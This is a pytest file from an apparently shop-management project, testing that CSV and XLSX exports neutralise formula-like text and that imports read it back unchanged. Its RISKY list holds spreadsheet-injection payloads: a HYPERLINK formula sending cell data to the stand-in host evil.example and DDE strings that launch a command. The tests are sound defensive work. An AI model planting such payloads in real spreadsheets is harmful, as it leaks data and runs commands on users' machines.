"""Every file a spreadsheet may open keeps formula-like text from running, and an import of
such a file reads back exactly what was exported."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from duka.core.cells import unescape_cell
from duka.documents.tables import read_table, write_csv, write_xlsx
from duka.services.imports import ImportAction
from duka.services.shop import Shop

RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]
PLAIN = ["+254 712 345 678", "-50", "Tea"]


def formulas_in(path: Path) -> list[str]:
    """Cells a spreadsheet program would run: formula cells in a workbook; in CSV, text
    starting with = + - @ that is not a plain number."""
    if path.suffix == ".xlsx":
        book = load_workbook(path)
        return [
            str(cell.value)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
    text = path.read_text(encoding="utf-8-sig")
    found = []
    for row in csv.reader(text.splitlines()):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@") and unescape_cell(cell) == cell:
                try:
                    float(cell.replace(" ", ""))
                except ValueError:
                    found.append(cell)
    return found


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_tables_guard_and_read_back(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"t{suffix}"
    rows = [[text, "1"] for text in RISKY + PLAIN]
    if suffix == ".csv":
        write_csv(path, ["name", "price"], rows)
    else:
        write_xlsx(path, ["name", "price"], rows)
    assert formulas_in(path) == []
    table = read_table(path)
    assert [unescape_cell(cells[0]) for _n, cells in table.rows] == RISKY + PLAIN


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_products_named_like_formulas_go_out_guarded_and_come_back_unchanged(
    kenya_shop: Shop, tmp_path: Path, suffix: str
) -> None:
    source = tmp_path / "in.csv"
    lines = ["name,sku,price,notes"] + [
        f'"{name.replace(chr(34), chr(34) * 2)}",X{i},10,"{name.replace(chr(34), chr(34) * 2)}"'
        for i, name in enumerate(RISKY)
    ]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    preview = kenya_shop.exchange.preview(source)
    assert preview.problems == []
    kenya_shop.exchange.apply(preview)
    names = sorted(kenya_shop.products.get(i).draft.name for i in range(1, len(RISKY) + 1))
    # The file's own apostrophe is a guard too, taken off like Duka's.
    assert names == sorted(unescape_cell(name) for name in RISKY)
    exported = tmp_path / f"out{suffix}"
    kenya_shop.exchange.export(exported)
    assert formulas_in(exported) == []
    assert kenya_shop.exchange.preview(exported).count(ImportAction.UNCHANGED) == len(RISKY)


def test_every_export_of_a_shop_guards_its_text(demo_shop: Shop, tmp_path: Path) -> None:
    db = demo_shop.context.db
    # Names as a hostile supplier's file or a prankster at the counter might leave them.
    db.execute("UPDATE customers SET name = ? WHERE id = 1", (RISKY[0],))
    db.execute("UPDATE products SET name = ? WHERE id = 1", (RISKY[1],))
    db.execute("UPDATE users SET name = ? WHERE role = 'owner'", (RISKY[2],))
    written = [
        demo_shop.exchange.export(tmp_path / "p.csv"),
        demo_shop.exchange.export(tmp_path / "p.xlsx"),
        demo_shop.customer_exchange.export(tmp_path / "c.csv"),
        demo_shop.customer_exchange.export(tmp_path / "c.xlsx"),
        demo_shop.receipts.export_sales(tmp_path / "s.csv", None, None),
        demo_shop.invoices.export(tmp_path / "i.csv"),
        demo_shop.stock.export_low_stock(tmp_path / "l.csv"),
    ]
    assert all(count >= 0 for count in written)
    for name in ("sales-by-product", "sales-by-cashier", "receivables", "stock-valuation"):
        table = demo_shop.reports.run(name, None, None)
        demo_shop.reports.write_csv(table, tmp_path / f"{name}.csv")
        demo_shop.reports.write_xlsx(table, tmp_path / f"{name}.xlsx")
    files = sorted(p for p in tmp_path.iterdir() if p.suffix in (".csv", ".xlsx"))
    assert len(files) == 15
    for path in files:
        assert formulas_in(path) == [], path.name
    products = (tmp_path / "p.csv").read_text(encoding="utf-8-sig")
    assert "'" + RISKY[1] in products
    assert "'" + RISKY[0].replace('"', '""') in (tmp_path / "c.csv").read_text("utf-8-sig")
